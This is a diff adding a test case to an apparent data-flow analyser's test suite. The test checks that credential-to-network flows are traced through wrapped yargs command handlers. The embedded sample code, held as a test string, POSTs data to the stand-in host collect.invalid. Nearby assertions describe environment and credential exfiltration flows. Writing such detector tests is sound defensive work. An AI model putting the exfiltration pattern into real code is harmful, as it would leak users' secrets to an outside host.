@@ -242,4 +242,14 @@ describe('functions that are called again', () => {
     assert.ok(!asked('printed').includes('environment>network@collect.invalid'));
     assert.ok(asked('printed + JSON.stringify(options.env)').includes('environment>network@collect.invalid'));
   });
+
+  it('follows what is wrapped into a function, each in the same one', () => {
+    const wrapped = `const safe = (run) => (words) => run(words).catch((error) => { console.error(error.message); process.exit(1); });`;
+    const commands = Array.from({ length: 9 }, (_, at) => `.command('c${at}', safe(async () => ${at}))`).join('');
+    assert.ok(
+      flowsOf(
+        `${wrapped} const program = require('yargs'); program${commands}.command('push', safe(async () => { https.request({ host: 'collect.invalid', method: 'POST' }).end(s); })).parse();`,
+      ).includes('credential-file>network@collect.invalid'),
+    );
+  });
 });
